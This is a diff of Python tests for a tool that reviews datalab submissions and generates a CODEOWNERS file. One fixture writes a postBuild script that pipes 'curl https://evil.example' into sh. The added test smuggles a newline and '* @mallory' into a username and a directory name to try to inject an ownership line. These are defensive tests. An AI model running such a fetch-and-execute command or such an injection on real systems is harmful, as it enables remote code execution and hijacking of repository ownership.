@@ -273,3 +273,11 @@ def test_the_report_names_the_exceptions_a_datalab_claims(governed):
     (root / "datalabs" / "gaia-dr3-hrd" / "postBuild").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
     _, output = review(root, "mlindqvist")
     assert "Exceptions it claims" in output and "- `DL-058`: postBuild enables an extension." in output
+
+
+def test_codeowners_never_takes_a_line_from_a_datalab(catalog):
+    root, config = catalog
+    edit(root, "gaia-dr3-hrd", "username: mlindqvist", 'username: "mlindqvist\\n* @mallory"')
+    shutil.copytree(root / "datalabs" / "jwst-nircam-image-explorer", root / "datalabs" / "evil\n* @mallory")
+    text = codeowners(config, ROLES)
+    assert "mallory" not in text and "/datalabs/jwst-nircam-image-explorer/" in text
